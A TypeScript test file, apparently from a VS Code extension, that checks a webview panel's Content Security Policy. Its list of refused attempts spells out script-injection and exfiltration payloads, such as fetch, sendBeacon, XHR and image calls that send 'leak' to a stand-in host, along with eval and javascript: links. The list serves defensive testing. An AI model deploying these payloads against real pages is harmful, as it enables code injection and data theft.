/** The policy of a panel's page, in a browser that keeps it: what it refuses, and that nothing goes out. */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import { until } from '../vscode/harness/until.ts';
import { useBiasPages } from './harness/biasPages.ts';
import { seenOn } from './harness/seen.ts';
import { STATES } from './harness/states.ts';

const scenario = useBiasPages();

const ELSEWHERE = 'https://elsewhere.test';

/** Makes an element as a hostile text would, were it ever taken for markup. */
const added = (tag: string, attributes: Readonly<Record<string, string>>, text = ''): string =>
  `{
    const element = document.createElement('${tag}');
    for (const [name, value] of Object.entries(${JSON.stringify(attributes)})) element.setAttribute(name, value);
    element.textContent = ${JSON.stringify(text)};
    document.querySelector('main').append(element);
    if (element.click && ${JSON.stringify(tag)} === 'a') element.click();
    if (${JSON.stringify(tag)} === 'form') element.submit();
  }`;

const RUNS = 'window.ran = true';

/** What is tried, by the part of the policy that stands against it. */
const REFUSED: readonly (readonly [directive: string, attempt: string])[] = [
  ['script-src-elem', added('script', {}, RUNS)],
  ['script-src-elem', added('script', { src: `${ELSEWHERE}/a.js` })],
  ['script-src-elem', added('script', { src: 'https://panel.test/panels.js' })],
  ['script-src-elem', added('script', { nonce: 'AAAAAAAAAAAAAAAAAAAAAA==' }, RUNS)],
  ['script-src-elem', added('script', { src: `data:text/javascript,${RUNS}` })],
  ['script-src-elem', `import('${ELSEWHERE}/a.js').catch(() => undefined)`],
  ['script-src-attr', added('p', { onclick: RUNS })],
  ['script-src-elem', added('a', { href: `javascript:${RUNS}` })],
  ['script-src', `eval(${JSON.stringify(RUNS)})`],
  ['script-src', `new Function(${JSON.stringify(RUNS)})()`],
  ['script-src', `setTimeout(${JSON.stringify(RUNS)})`],
  ['worker-src', `new Worker('https://panel.test/panels.js')`],
  ['worker-src', `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(RUNS)}])))`],
  ['connect-src', `fetch('${ELSEWHERE}/?leak').catch(() => undefined)`],
  ['connect-src', `fetch('https://panel.test/panels.js').catch(() => undefined)`],
  [
    'connect-src',
    `{ const request = new XMLHttpRequest(); request.open('POST', '${ELSEWHERE}/'); request.send('leak'); }`,
  ],
  ['connect-src', `new WebSocket('wss://elsewhere.test/')`],
  ['connect-src', `new EventSource('${ELSEWHERE}/')`],
  ['connect-src', `navigator.sendBeacon('${ELSEWHERE}/', 'leak')`],
  ['img-src', added('img', { src: `${ELSEWHERE}/leak.png` })],
  ['media-src', added('video', { src: `${ELSEWHERE}/leak.mp4` })],
  [
    'font-src',
    `{ const face = new FontFace('x', 'url(${ELSEWHERE}/a.woff)'); document.fonts.add(face); face.load().catch(() => undefined); }`,
  ],
  ['style-src-elem', added('style', {}, `main { background: url(${ELSEWHERE}/leak) }`)],
  ['style-src-elem', added('link', { rel: 'stylesheet', href: `${ELSEWHERE}/a.css` })],
  ['style-src-attr', added('p', { style: `background: url(${ELSEWHERE}/leak)` })],
  ['frame-src', added('iframe', { src: `${ELSEWHERE}/` })],
  ['object-src', added('object', { data: `${ELSEWHERE}/a.swf` })],
  ['base-uri', added('base', { href: `${ELSEWHERE}/` })],
  ['form-action', added('form', { action: `${ELSEWHERE}/`, method: 'post' })],
];

scenario(`${REFUSED.length} ways to run code or to reach the network are refused`, async (open) => {
  const { panel } = await open(STATES.sweep);
  const { page } = panel;
  for (const [directive, attempt] of REFUSED) {
    // On a turn of its own: what a debugger evaluates directly may use `eval`.
    await page.evaluate(`new Promise((done) => setTimeout(() => {
      try { ${attempt} } catch (error) { /* Refused on the spot. */ }
      setTimeout(done, 0);
    }))`);
    const refused = await until(`a refusal of ${attempt}`, async () => {
      const lines = await panel.takeRefused();
      return lines.length > 0 && lines;
    });
    for (const line of refused) assert.equal(line.split(' ')[0], directive, attempt);
  }
  assert.equal(await page.evaluate('window.ran'), undefined);
  assert.deepEqual(panel.requests, []);
  assert.deepEqual((await seenOn(panel)).cards.length, 3);
  // Each refusal is also logged; here they are what is looked for.
  panel.errors.splice(0);
});

scenario('what the page itself does is refused nothing', async (open) => {
  const { panel, show } = await open(STATES.empty);
  for (const state of Object.values(STATES)) await show(state);
  assert.deepEqual([await panel.takeRefused(), panel.requests], [[], []]);
});

/** Script and style of all panels together, as they are in the package. */
const MAX_BYTES = 500_000;

scenario(`script and style are no more than ${MAX_BYTES / 1000} KB`, async () => {
  const folder = new URL('../../dist/webview/', import.meta.url);
  const [script, style] = ['panels.js', 'panels.css'].map((name) => fs.readFileSync(new URL(name, folder)));
  assert.ok(script && style);
  const bytes = script.length + style.length;
  assert.ok(bytes > 50_000 && bytes <= MAX_BYTES, `${bytes} bytes`);
});
